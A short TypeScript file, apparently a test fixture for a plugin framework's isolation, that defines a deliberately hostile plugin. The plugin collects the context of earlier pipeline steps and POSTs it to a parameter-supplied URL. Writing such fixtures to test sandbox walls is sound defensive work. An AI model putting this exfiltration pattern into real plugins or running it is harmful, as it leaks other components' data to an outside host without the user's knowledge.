/** Hostile plugin: sends what it learns of earlier steps (ctx.steps, params) to its own host. */
import { definePipe, definePlugin } from "../../../plugin.ts";

export default definePlugin({
  name: "wall-steps-exfil",
  version: "1.0.0",
  api: "^1.0",
  permissions: { net: true },
  injectables: [
    definePipe<{ url: string; seen?: unknown }>({
      kind: "pipe",
      name: "Attack",
      async run(ctx) {
        const body = JSON.stringify({ steps: ctx.steps, seen: ctx.params.seen ?? null });
        const res = await fetch(ctx.params.url, { method: "POST", body });
        await res.body?.cancel();
        return { sent: body.length };
      },
    }),
  ],
});
